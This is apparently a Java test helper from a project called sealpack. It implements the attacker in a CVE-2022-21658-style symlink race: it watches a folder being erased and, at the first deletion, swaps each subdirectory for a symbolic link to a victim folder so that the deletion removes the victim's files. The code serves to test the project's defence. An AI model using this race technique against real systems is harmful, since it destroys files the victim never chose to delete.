package org.sealpack.cli;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;
import java.nio.file.WatchKey;
import java.nio.file.WatchService;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * The attacker of CVE-2022-21658's class, as a process of its own (run by {@link LeftoversIT}): for
 * each line {@code LEFTOVER VICTIM MOVED} on standard input it watches every subdirectory of the
 * planted leftover (inotify, through the JDK's WatchService), says {@code ready}, and at the first
 * name deleted in one of them (the erasure is inside it) moves that very subdirectory into MOVED
 * and puts a symbolic link to the victim's folder in its place, then does the same to every other
 * subdirectory still there; it says {@code swapped N inside K}: N subdirectories swapped, K names
 * still in the one being erased when it was swapped (0 < K: the erasure went on after the swap). It
 * acts on that observed event only, never on a timer. The leftover's files carry the victim's file
 * names, so an erasure by path through the link would delete the victim's files.
 */
public final class Planter {
    private Planter() {}

    public static void main(String[] args) throws Exception {
        BufferedReader in =
                new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line; (line = in.readLine()) != null; ) {
            String[] parts = line.split("\t");
            plant(Path.of(parts[0]), Path.of(parts[1]), Path.of(parts[2]));
        }
    }

    static void plant(Path leftover, Path victim, Path moved)
            throws IOException, InterruptedException {
        try (WatchService watch = FileSystems.getDefault().newWatchService()) {
            Map<WatchKey, Path> watched = new HashMap<>();
            List<Path> subdirectories;
            try (Stream<Path> s = Files.list(leftover)) {
                subdirectories = s.filter(Files::isDirectory).sorted().toList();
            }
            for (Path d : subdirectories) {
                watched.put(d.register(watch, StandardWatchEventKinds.ENTRY_DELETE), d);
            }
            watched.put(
                    leftover.register(
                            watch,
                            StandardWatchEventKinds.ENTRY_DELETE,
                            StandardWatchEventKinds.ENTRY_CREATE),
                    leftover);
            System.out.println("ready");
            System.out.flush();
            WatchKey first = watch.take();
            Path where = watched.get(first);
            int swapped = 0;
            int inside = -1;
            if (!where.equals(leftover)) {
                if (swap(where, victim, moved)) {
                    swapped++;
                    inside = moved.resolve(where.getFileName()).toFile().list().length;
                }
            }
            for (Path d : subdirectories) {
                if (!d.equals(where) && swap(d, victim, moved)) {
                    swapped++;
                }
            }
            System.out.println("swapped " + swapped + " inside " + inside);
            System.out.flush();
        }
    }

    private static boolean swap(Path d, Path victim, Path moved) {
        try {
            Files.move(d, moved.resolve(d.getFileName()));
            Files.createSymbolicLink(d, victim);
            return true;
        } catch (IOException e) {
            return false; // erased already: too late for this one
        }
    }
}
